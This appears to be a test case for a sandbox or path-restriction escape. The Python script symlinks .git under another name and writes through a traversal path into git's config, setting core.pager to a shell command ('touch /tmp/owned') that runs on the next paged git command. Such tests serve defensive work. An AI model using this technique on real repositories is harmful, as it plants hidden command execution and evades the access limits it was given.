# Reaches git's settings by a link of its own, and by a long way round.
from escape import *
os.symlink(".git", "alias")
with open("./alias/../alias/config", "a") as f:
    f.write("[core]\n\tpager = touch /tmp/owned\n")
print("written")
